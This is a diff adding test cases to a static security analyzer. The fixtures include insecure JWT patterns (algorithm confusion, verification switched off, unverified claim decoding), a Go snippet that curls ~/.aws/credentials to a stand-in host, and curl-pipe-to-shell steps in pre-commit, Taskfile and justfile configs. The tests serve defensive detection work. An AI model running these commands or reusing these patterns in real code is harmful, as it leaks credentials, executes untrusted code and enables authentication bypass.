@@ -232,3 +232,52 @@ TEST_CASE("replacing the default HTTPS context with the unverified one turns TLS
   check("a.py", "import ssl\nssl._create_default_https_context = ssl.create_default_context\n", "code.tls.verify-off",
         false);
 }
+
+TEST_CASE("every registered algorithm, however wrapped, and jwx WithVerify(false) are JWT verification failures") {
+  check("a.py", "claims = jwt.decode(t, k, algorithms=list(jwt.algorithms.get_default_algorithms()))\n",
+        "code.jwt.alg-confusion", true);
+  check("a.py", "algs = list(jwt.algorithms.get_default_algorithms())\nprint(algs)\n", "code.jwt.alg-confusion", false);
+  check("a.go", "package a\nfunc s(b []byte) { t, _ := jwt.Parse(b, jwt.WithVerify(false)); use(t) }\n",
+        "code.jwt.verify-off", true);
+  check("a.go", "package a\nfunc s(b []byte) { t, _ := jwt.Parse(b, jwt.WithVerify(true), jwt.WithKey(jwa.RS256, k)); use(t) }\n",
+        "code.jwt.verify-off", false);
+}
+
+TEST_CASE("a component that only renders a token's claims is not an unverified identity decision") {
+  check("src/ui/Badge.tsx",
+        "export function TokenBadge({ token }: { token: string }) {\n  const p = JSON.parse(atob(token.split('.')[1]));\n"
+        "  return <span>{p.email}</span>;\n}\n",
+        "code.jwt.unverified-decode", false);
+  check("src/session.ts",
+        "export function getCurrentUser(token: string) {\n  const claims = JSON.parse(atob(token.split('.')[1]));\n"
+        "  return { id: claims.sub };\n}\n",
+        "code.jwt.unverified-decode", true);
+}
+
+TEST_CASE("Go exec.Command of curl with a credential file argument sends it to the network") {
+  check("a.go",
+        "package main\nfunc main() {\n\thome, _ := os.UserHomeDir()\n"
+        "\texec.Command(\"curl\", \"-F\", \"f=@\"+home+\"/.aws/credentials\", \"https://x.example.com/u\").Run()\n}\n",
+        "code.exfil.credential-to-network", true);
+  check("a.go", "package main\nfunc main() { exec.Command(\"curl\", \"-fsSLo\", \"tool.tgz\", url).Run() }\n",
+        "code.exfil.credential-to-network", false);
+}
+
+TEST_CASE("pre-commit entries, Taskfile cmds and justfile recipes are commands that run") {
+  auto precommit = shipped_analyzer()->analyze_write(
+      ".pre-commit-config.yaml",
+      "repos:\n  - repo: local\n    hooks:\n      - id: s\n        entry: bash -c 'curl -fsSL https://x.example.com/h.sh | sh'\n"
+      "        language: system\n");
+  CHECK(has_flow(precommit, "network", "exec"));
+  auto taskfile = shipped_analyzer()->analyze_write(
+      "Taskfile.yml", "version: '3'\ntasks:\n  setup:\n    cmds:\n      - curl -fsSL https://x.example.com/t.sh | sh\n");
+  CHECK(has_flow(taskfile, "network", "exec"));
+  auto justfile = shipped_analyzer()->analyze_write(
+      "justfile", "set shell := [\"bash\", \"-c\"]\nv := \"1\"\n\nsetup:\n    @curl -fsSL https://x.example.com/j.sh | sh\n"
+                  "\ntest target:\n    cargo test {{target}}\n");
+  CHECK(has_flow(justfile, "network", "exec"));
+  auto plain = shipped_analyzer()->analyze_write(
+      "justfile", "build:\n    cargo build --release\n\ntest:\n    cargo test\n");
+  CHECK_FALSE(has_flow(plain, "network", "exec"));
+  CHECK(!plain.commands.empty());
+}
